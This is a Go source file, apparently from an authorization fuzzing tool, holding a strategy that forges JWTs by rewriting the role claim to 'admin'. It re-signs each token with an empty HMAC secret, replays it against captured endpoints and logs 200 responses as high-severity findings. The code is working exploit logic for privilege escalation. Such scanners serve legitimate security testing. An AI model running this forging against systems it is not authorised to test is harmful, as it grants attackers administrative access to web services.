package attacks

import (
	"context"
	"net/http"

	"authfuzz/pkg/capture"
	"authfuzz/pkg/jwtutil"
	"authfuzz/pkg/logger"
	"authfuzz/pkg/transport"

	"github.com/golang-jwt/jwt/v5"
)

const (
	VulnJWTRoleEscalation = "jwt_role_escalation"

	roleClaim   = "role"
	targetRole  = "admin"
	forgeSecret = ""
)

// JWTRoleEscalation rewrites the role claim to admin and re-signs the token
// with the original algorithm and an empty key. Targets that skip signature
// checks or accept empty HMAC secrets answer 200.
type JWTRoleEscalation struct {
	logger *logger.Logger
}

func NewJWTRoleEscalation(l *logger.Logger) *JWTRoleEscalation {
	return &JWTRoleEscalation{logger: orDefault(l)}
}

func (s *JWTRoleEscalation) Name() string { return "jwt_role_escalation" }

func (s *JWTRoleEscalation) Applicable(ep *capture.Endpoint, ac *capture.AuthContext) bool {
	return len(ac.Tokens) > 0 && ep.HasAuthHeader
}

// Escalate returns the forged token, or ok=false when the token is not a
// candidate: undecodable, no role claim, already admin, or unsignable alg.
func (s *JWTRoleEscalation) Escalate(token string) (forged string, originalRole interface{}, ok bool) {
	d := jwtutil.Decode(token)
	if !d.OK {
		s.logger.WithError(d.Err).Debug("skipping undecodable token")
		return "", nil, false
	}

	role, has := d.Claims[roleClaim]
	if !has || role == targetRole {
		return "", nil, false
	}

	claims := make(jwt.MapClaims, len(d.Claims))
	for k, v := range d.Claims {
		claims[k] = v
	}
	claims[roleClaim] = targetRole

	forged, err := jwtutil.Forge(d.Header, claims, forgeSecret)
	if err != nil {
		s.logger.WithError(err).WithField("alg", d.Alg()).Debug("skipping token that cannot be re-signed")
		return "", nil, false
	}
	return forged, role, true
}

func (s *JWTRoleEscalation) Run(ctx context.Context, ep *capture.Endpoint, ac *capture.AuthContext, doer transport.Doer) ([]Result, error) {
	base := BuildRequest(ep, ac)

	var results []Result
	for _, token := range ac.Tokens {
		if err := ctx.Err(); err != nil {
			return results, nil
		}

		forged, originalRole, ok := s.Escalate(token)
		if !ok {
			continue
		}

		resp, err := doer.Do(ctx, WithBearer(base, forged))
		if err != nil {
			s.logger.WithStrategy(s.Name(), ep.Descriptor()).WithError(err).Debug("escalation request failed")
			continue
		}
		if resp.StatusCode != http.StatusOK {
			continue
		}

		results = append(results, Result{
			Vulnerability: VulnJWTRoleEscalation,
			Endpoint:      ep.Descriptor(),
			Severity:      SeverityHigh,
			Evidence: map[string]interface{}{
				"original_role":   originalRole,
				"status_code":     resp.StatusCode,
				"token_prefix":    jwtutil.Prefix(forged, TokenPrefixLen),
				"response_sample": sample(resp),
			},
		})
	}
	return results, nil
}
